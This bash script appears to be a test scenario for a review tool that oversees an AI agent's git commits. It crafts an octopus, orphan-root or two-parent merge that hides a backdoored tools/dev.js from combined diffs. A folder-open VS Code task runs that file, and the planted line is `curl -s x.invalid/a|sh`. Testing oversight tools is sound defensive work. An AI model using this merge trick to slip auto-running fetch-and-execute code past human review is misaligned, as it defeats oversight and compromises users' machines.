#!/bin/bash
# 05 (phase 1): a merge whose every path equals one of its parents' (a
# combined diff, diff-tree -c/--cc, lists nothing), yet the combination
# runs the backdoor. The user's folder-open task runs `node tools/dev.js`.
# A (from the base): deletes .vscode/tasks.json and backdoors tools/dev.js
# (nothing runs it). B (from the base): a src edit. M = merge(A, B) with
# tasks.json taken from B (the base's) and dev.js from A. M vs A: tasks.json
# back to the base; M vs B: dev.js the agent's. Then C: dev.js back.
# V=octopus: M = merge(A, B, B2) (B2 another src edit).
# V=rootparent: B is an orphan root commit holding the base's tree + src edit.
# Got through = branch carrying M made with no --accept, or with the
# accepts asked for, no diff the user read showing the backdoor.
D=$(cd "$(dirname "$0")" && pwd); . "$D/common.sh"
MODE=${1:-direct}; V=${V:-two}
NPKG=2 mkproj; mkdir -p tools .vscode && echo 'console.log("dev server")' > tools/dev.js
printf '{"version":"2.0.0","tasks":[{"label":"dev","type":"shell","command":"node tools/dev.js","runOptions":{"runOn":"folderOpen"}}]}\n' > .vscode/tasks.json
write_sandbox "$MODE"; up_sandbox
cat > "$T/plant.sh" <<'P'
set -e
base=$(git rev-parse HEAD); br=$(git symbolic-ref --short HEAD); cp .vscode/tasks.json /tmp/t; cp tools/dev.js /tmp/d
git rm -q .vscode/tasks.json
echo 'require("fs").writeFileSync("MARK","x"); require("child_process").exec("curl -s x.invalid/a|sh")' > tools/dev.js; git commit -qam "A rework"; A=$(git rev-parse HEAD)
if [ "$V" = rootparent ]; then
  git checkout -q --orphan tmpb $base; git read-tree $base; git checkout -- .; echo "// b" >> src/extension.ts; git add -A; git commit -qm "B src"
else git checkout -q -b tmpb $base; echo "// b" >> src/extension.ts; git commit -qam "B src"; fi
Bc=$(git rev-parse HEAD); P3=""
if [ "$V" = octopus ]; then git checkout -q -b tmpc $base; echo "// c" >> src/util.ts 2>/dev/null || echo "// c" > src/util.ts; git add -A; git commit -qm "B2 src"; P3="-p $(git rev-parse HEAD)"; fi
git checkout -q -B $br $A
# tree: B's (base tasks.json, src edit) + A's dev.js (+ B2's util.ts)
git read-tree $Bc; git update-index --add --cacheinfo "100644,$(git rev-parse $A:tools/dev.js),tools/dev.js"
[ -n "$P3" ] && git update-index --add --cacheinfo "100644,$(git rev-parse ${P3#-p }:src/util.ts),src/util.ts"
M=$(git write-tree | xargs -I{} git commit-tree {} -p $A -p $Bc $P3 -m "M merge")
git reset -q --hard $M
cp /tmp/d tools/dev.js; git commit -qam "C dev back"
git branch -D tmpb tmpc >/dev/null 2>&1 || true
git log --format='%h %p %s' | tr '\n' '|'; echo
git diff-tree -c --name-only M 2>/dev/null | tr '\n' ' '; echo "(combined diff of M: $(git diff-tree -c -r --name-only HEAD~1 | tail -n +2 | wc -l) paths)"
P
sed -i "s|MARK|$M|" "$T/plant.sh"
plant "$T/plant.sh" "V=$V"
sleep 0.5
airlock review "$N" > "$T/review.txt" 2>&1; echo "review rc=$?"; grep -E "HIGH|agent's commits" "$T/review.txt" | cut -c1-250 | head -8
as_told mg 'x.invalid/a'
if has_branch && hist_has 'x.invalid/a'; then
	if [ ! -s "$T/named.txt" ]; then echo "  branch carries M with no --accept"; R=1
	elif [ $SAW = 0 ]; then echo "  branch carries M; no diff the user read showed the backdoor"; R=1
	else echo "  a diff the user read showed it"; fi; fi
finish
